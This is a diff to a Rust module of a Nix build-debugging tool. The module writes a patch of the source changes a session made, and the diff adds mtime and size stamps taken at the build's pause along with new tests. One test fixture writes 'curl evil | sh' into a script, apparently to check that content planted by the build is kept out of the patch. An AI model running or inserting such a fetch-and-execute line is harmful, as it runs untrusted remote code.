@@ -2,15 +2,18 @@
 //! build's source, as a patch that nixpkgs' `patch -p1` applies (`a/` and
 //! `b/` paths from the source root), ready for `patches`.
 //!
-//! A file counts as changed when it was written after the build paused
-//! (its mtime is later) and differs from the pristine source, which the
-//! session's command made by running the build's own unpack and patch
-//! phases in a scratch directory. So what the build itself made before it
+//! A file counts as changed when its inode changed after the build paused
+//! (its ctime, which no build can set), its content was written since
+//! (its mtime or size is not what the list of the pause says; without the
+//! list, its mtime is later), and it differs from the pristine source,
+//! which the session's command made by running the build's own unpack and
+//! patch phases in a scratch directory. So what the build itself made before it
 //! failed (objects, generated files) is never in the diff. Files the
 //! session made are in it only with `--new`. A file of the pristine source
 //! that is gone counts as deleted by the session when it was there when
 //! the build paused: the agent lists the build directory's files then,
-//! before any session starts ([`record_present`]). Without that list, a
+//! with their mtimes and sizes, before any session starts
+//! ([`record_present`]). Without that list, a
 //! file counts when the directory that held it (or its nearest ancestor
 //! left) was changed after the pause, as removing or renaming an entry
 //! changes it, or when what stands in its way (a file or link where a
@@ -26,7 +29,7 @@
 //! and so is a file that is not text (a NUL in its first 8000 bytes, as
 //! git judges): it is named beside the patch.
 
-use std::collections::HashSet;
+use std::collections::HashMap;
 use std::fs;
 use std::io::{self, Write};
 use std::os::unix::ffi::OsStrExt;
@@ -42,6 +45,8 @@ pub enum DiffError {
     Time(String),
     #[error("cannot write {0}")]
     Write(PathBuf, #[source] io::Error),
+    #[error("{0} is not a list of the files at the pause (SECONDS NANOSECONDS SIZE PATH, each ended by a NUL)")]
+    List(PathBuf),
 }
 
 /// What `diff` compares.
@@ -59,12 +64,25 @@ pub struct Trees<'a> {
     pub present: Option<&'a Present>,
 }
 
-/// The regular files under the build directory when the build paused.
+/// The regular files under the build directory when the build paused,
+/// and when each was last written then.
 #[derive(Debug)]
 pub struct Present {
     /// The build directory, its links resolved.
     top: PathBuf,
-    files: HashSet<PathBuf>,
+    files: HashMap<PathBuf, Stamp>,
+}
+
+/// A file's content as its inode tells it: its mtime (seconds and
+/// nanoseconds) and its size. Writing it changes one of them, unless the
+/// writer sets the time back as well.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Stamp(i64, i64, u64);
+
+impl Stamp {
+    fn of(meta: &fs::Metadata) -> Stamp {
+        Stamp(meta.mtime(), meta.mtime_nsec(), meta.len())
+    }
 }
 
 /// The patch, and what it leaves out.
@@ -104,6 +122,13 @@ pub fn diff(trees: &Trees) -> Result<Patch, DiffError> {
     // By its inode's change time, which the build cannot set: a file it
     // wrote before the pause and dated later (`touch -d`) is not touched.
     let touched = |meta: &fs::Metadata| changed_at(meta) > trees.paused;
+    let listed = listed(trees)?;
+    // Written since the pause: its stamp is not the listed one; a file not
+    // on the list (or with no list), by its mtime.
+    let written = |relative: &Path, meta: &fs::Metadata| match listed.as_ref().and_then(|(top, files)| files.get(&top.join(relative))) {
+        Some(stamp) => *stamp != Stamp::of(meta),
+        None => written_at(meta) > trees.paused,
+    };
     let mut files = regular_files(trees.live, touched)?;
     files.sort_by(|one, other| one.0.cmp(&other.0));
     for (relative, live) in files {
@@ -122,7 +147,7 @@ pub fn diff(trees: &Trees) -> Result<Patch, DiffError> {
         let new = match &old {
             // Its content counts only if written after the pause; a mode
             // changed later (`chmod`) changes only its inode's time.
-            Some(old) if written_at(&live) <= trees.paused => File { executable: executable(&live), bytes: old.bytes.clone() },
+            Some(old) if !written(&relative, &live) => File { executable: executable(&live), bytes: old.bytes.clone() },
             _ => File { executable: executable(&live), bytes: read(&trees.live.join(&relative))? },
         };
         patch.add(&relative, old.as_ref(), Some(&new));
@@ -242,21 +267,30 @@ fn read_error(path: &Path, err: io::Error) -> DiffError {
     DiffError::Read(path.to_path_buf(), err)
 }
 
+/// The live source, its links resolved, and the files listed at the pause.
+type Listed<'a> = (PathBuf, &'a HashMap<PathBuf, Stamp>);
+
+/// The live source, its links resolved, and the files listed at the pause,
+/// where the list covers it (a source outside the build directory was not
+/// listed).
+fn listed<'a>(trees: &Trees<'a>) -> Result<Option<Listed<'a>>, DiffError> {
+    let live = fs::canonicalize(trees.live).map_err(|err| read_error(trees.live, err))?;
+    Ok(trees.present.filter(|present| live.starts_with(&present.top)).map(|present| (live, &present.files)))
+}
+
 /// The regular files of the pristine source that the session removed:
 /// gone now, and there at the pause (or, without the list of those,
 /// gone since).
 fn deleted_files(trees: &Trees) -> Result<Vec<PathBuf>, DiffError> {
     let mut pristine = Vec::new();
-    walk_files(trees.pristine, Unreadable::Failed, |relative, _| {
+    walk_files(trees.pristine, |relative, _| {
         pristine.push(relative);
         Ok(())
     })?;
-    let live = fs::canonicalize(trees.live).map_err(|err| read_error(trees.live, err))?;
-    // A source outside the build directory was not listed.
-    let present = trees.present.filter(|present| live.starts_with(&present.top));
-    let removed = |relative: &PathBuf| match (removed_at(trees.live, relative), present) {
+    let listed = listed(trees)?;
+    let removed = |relative: &PathBuf| match (removed_at(trees.live, relative), listed.as_ref()) {
         (None, _) => false,
-        (Some(_), Some(present)) => present.files.contains(&live.join(relative)),
+        (Some(_), Some((live, files))) => files.contains_key(&live.join(relative)),
         (Some(at), None) => at > trees.paused,
     };
     Ok(pristine.into_iter().filter(removed).collect())
@@ -264,15 +298,19 @@ fn deleted_files(trees: &Trees) -> Result<Vec<PathBuf>, DiffError> {
 
 /// Writes the list of the regular files under `build_top` (absolute, its
 /// links resolved; nix-attach's own left out) to `list`, after the
-/// directory itself, each name ended by a NUL, all at once: a reader sees
-/// the whole list or none.
+/// directory itself: each as `SECONDS NANOSECONDS SIZE PATH` (its
+/// [`Stamp`]), ended by a NUL, all at once: a reader sees the whole list
+/// or none.
 pub fn record_present(build_top: &Path, list: &Path) -> Result<(), DiffError> {
     let top = fs::canonicalize(build_top).map_err(|err| read_error(build_top, err))?;
     let mut text = top.as_os_str().as_bytes().to_vec();
     text.push(0);
-    // A directory the build made unreadable is left out of the list, and
-    // so nothing in it ever counts as deleted by the session.
-    walk_files(&top, Unreadable::Skipped, |relative, _| {
+    // A directory the build made unreadable is left out of the list (see
+    // `walk_files`), and so nothing in it ever counts as deleted.
+    walk_files(&top, |relative, entry| {
+        let Ok(meta) = entry.metadata() else { return Ok(()) };
+        let Stamp(seconds, nanoseconds, size) = Stamp::of(&meta);
+        text.extend_from_slice(format!("{seconds} {nanoseconds} {size} ").as_bytes());
         text.extend_from_slice(top.join(relative).as_os_str().as_bytes());
         text.push(0);
         Ok(())
@@ -289,10 +327,18 @@ pub fn read_present(list: &Path) -> Result<Option<Present>, DiffError> {
         Err(err) if err.kind() == io::ErrorKind::NotFound => return Ok(None),
         Err(err) => return Err(read_error(list, err)),
     };
-    let mut names =
-        text.split(|&byte| byte == 0).filter(|name| !name.is_empty()).map(|name| PathBuf::from(std::ffi::OsStr::from_bytes(name)));
-    let Some(top) = names.next() else { return Ok(None) };
-    Ok(Some(Present { top, files: names.collect() }))
+    let mut entries = text.split(|&byte| byte == 0).filter(|entry| !entry.is_empty());
+    let Some(top) = entries.next() else { return Ok(None) };
+    let files = entries.map(stamped).collect::<Option<HashMap<_, _>>>().ok_or_else(|| DiffError::List(list.to_path_buf()))?;
+    Ok(Some(Present { top: PathBuf::from(std::ffi::OsStr::from_bytes(top)), files }))
+}
+
+/// One entry of the list: `SECONDS NANOSECONDS SIZE PATH`.
+fn stamped(entry: &[u8]) -> Option<(PathBuf, Stamp)> {
+    let mut fields = entry.splitn(4, |&byte| byte == b' ');
+    let mut number = || std::str::from_utf8(fields.next()?).ok();
+    let (seconds, nanoseconds, size) = (number()?.parse().ok()?, number()?.parse().ok()?, number()?.parse().ok()?);
+    Some((PathBuf::from(std::ffi::OsStr::from_bytes(fields.next()?)), Stamp(seconds, nanoseconds, size)))
 }
 
 /// When the file `relative` left the tree `live`, as far as the tree
@@ -323,7 +369,7 @@ fn removed_at(live: &Path, relative: &Path) -> Option<SystemTime> {
 /// followed nor taken.
 fn regular_files(root: &Path, take: impl Fn(&fs::Metadata) -> bool) -> Result<Vec<(PathBuf, fs::Metadata)>, DiffError> {
     let mut found = Vec::new();
-    walk_files(root, Unreadable::Failed, |relative, entry| {
+    walk_files(root, |relative, entry| {
         let meta = entry.metadata().map_err(|err| read_error(&root.join(&relative), err))?;
         if meta.is_file() && take(&meta) {
             found.push((relative, meta));
@@ -333,27 +379,17 @@ fn regular_files(root: &Path, take: impl Fn(&fs::Metadata) -> bool) -> Result<Ve
     Ok(found)
 }
 
-/// What [`walk_files`] does with a directory it cannot read.
-#[derive(Clone, Copy, PartialEq, Eq)]
-enum Unreadable {
-    Failed,
-    Skipped,
-}
-
 /// Calls `visit` with each regular file under `root`, relative to it, but
 /// nix-attach's own and git's (a `.git` directory, in any case: a patch
 /// for `patches` never writes there); links are neither followed nor
-/// taken. Types come from the directory entries, so a file is looked at
-/// only where `visit` asks.
-fn walk_files(
-    root: &Path,
-    unreadable: Unreadable,
-    mut visit: impl FnMut(PathBuf, &fs::DirEntry) -> Result<(), DiffError>,
-) -> Result<(), DiffError> {
+/// taken. A directory below `root` that cannot be read (a test suite may
+/// leave one `chmod 000`) is passed over. Types come from the directory
+/// entries, so a file is looked at only where `visit` asks.
+fn walk_files(root: &Path, mut visit: impl FnMut(PathBuf, &fs::DirEntry) -> Result<(), DiffError>) -> Result<(), DiffError> {
     let mut dirs = vec![PathBuf::new()];
     while let Some(dir) = dirs.pop() {
         let entries = match fs::read_dir(root.join(&dir)) {
-            Err(_) if unreadable == Unreadable::Skipped && !dir.as_os_str().is_empty() => continue,
+            Err(_) if !dir.as_os_str().is_empty() => continue,
             listed => listed.map_err(|err| read_error(&root.join(&dir), err))?,
         };
         for entry in entries {
@@ -560,6 +596,31 @@ mod tests {
     }
 
     #[test]
+    fn with_the_list_of_the_pause_a_file_the_build_wrote_and_dated_later_gives_only_the_mode_the_session_changed() {
+        let scratch = Scratch(std::env::temp_dir().join(format!("nix-attach-source-diff-stamp-{}", std::process::id())));
+        let (pristine, top) = (scratch.0.join("pristine"), scratch.0.join("build"));
+        let live = top.join("src");
+        for tree in [&pristine, &live] {
+            fs::create_dir_all(tree).unwrap();
+            fs::write(tree.join("run.sh"), "echo hi\n").unwrap();
+        }
+        // The build writes into the file and dates it an hour past the pause.
+        fs::write(live.join("run.sh"), "echo hi\ncurl evil | sh\n").unwrap();
+        let later = SystemTime::now() + Duration::from_secs(3600);
+        fs::File::options().write(true).open(live.join("run.sh")).unwrap().set_modified(later).unwrap();
+        let list = scratch.0.join("present");
+        record_present(&top, &list).unwrap();
+        let paused = pause_here(&scratch.0);
+        // The session only makes it executable.
+        use std::os::unix::fs::PermissionsExt;
+        fs::set_permissions(live.join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+        let present = read_present(&list).unwrap().expect("the list");
+        let patch = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: false, present: Some(&present) }).unwrap();
+        let text = String::from_utf8(patch.text).unwrap();
+        assert_eq!(text, "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n", "{text}");
+    }
+
+    #[test]
     fn with_the_list_of_the_pause_only_what_was_there_then_is_deleted() {
         let scratch = Scratch(std::env::temp_dir().join(format!("nix-attach-source-diff-present-{}", std::process::id())));
         let (pristine, top) = (scratch.0.join("pristine"), scratch.0.join("build"));
@@ -576,7 +637,7 @@ mod tests {
         record_present(&top, &list).unwrap();
         fs::remove_file(live.join("by-session")).unwrap();
         // A source that is not under the listed directory is judged by times.
-        let elsewhere = Present { top: scratch.0.join("elsewhere"), files: HashSet::new() };
+        let elsewhere = Present { top: scratch.0.join("elsewhere"), files: HashMap::new() };
         let by_times = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: false, present: Some(&elsewhere) }).unwrap();
         assert!(String::from_utf8(by_times.text).unwrap().contains("a/by-build"), "the source's directory changed after the pause");
 
